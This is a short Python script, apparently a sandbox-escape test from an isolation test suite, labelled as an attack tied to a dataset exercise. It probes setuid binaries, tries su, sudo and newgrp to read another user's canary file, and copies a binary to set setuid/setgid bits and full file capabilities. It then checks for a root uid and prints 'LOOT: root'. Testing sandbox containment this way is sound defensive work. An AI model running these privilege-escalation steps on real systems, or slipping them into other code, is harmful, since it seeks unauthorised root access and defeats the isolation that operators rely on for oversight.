# attack: runs programs that have root's rights, or makes one, to read as root
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
import shutil
import subprocess
import sys

KNOWN = ["/usr/bin/su", "/bin/su", "/usr/bin/sudo", "/usr/bin/mount", "/bin/mount", "/bin/ping", "/usr/bin/pkexec", "/usr/bin/passwd", "/usr/bin/newuidmap",
         "/usr/lib/openssh/ssh-keysign", "/usr/lib/dbus-1.0/dbus-daemon-launch-helper", "/usr/lib/polkit-1/polkit-agent-helper-1"]  # fmt: skip
for path in KNOWN:
    try:
        before = os.stat(path).st_mode & 0o6000
        done = subprocess.run([path, "--version"], capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
        print(path, oct(before), done.returncode, (done.stdout + done.stderr)[:80])
    except (OSError, subprocess.SubprocessError) as error:
        print(path, error)
for shell in (["su", "-c", "cat @OTHER@/canary.txt"], ["sudo", "-n", "cat", "@OTHER@/canary.txt"], ["newgrp", "root"]):
    try:
        print("said:", subprocess.run(shell, capture_output=True, timeout=2, stdin=subprocess.DEVNULL).stdout)
    except (OSError, subprocess.SubprocessError) as error:
        print(error)
mine = os.path.realpath("mine")
try:
    shutil.copy("/usr/bin/env" if os.path.exists("/usr/bin/env") else os.path.realpath(sys.executable), mine)
    for mode in (0o4755, 0o2755, 0o6777):
        os.chmod(mine, mode)
    os.setxattr(mine, "security.capability", b"\x01\x00\x00\x02" + b"\xff" * 16)
except OSError as error:
    print(error)
done = subprocess.run([sys.executable, "-S", "-c", "import os; print(*os.getresuid(), *os.getresgid())"], capture_output=True, text=True)
print(done.stdout or done.stderr)
if done.stdout and "0" in done.stdout.split():
    print("LOOT: root")
print("TRIED")
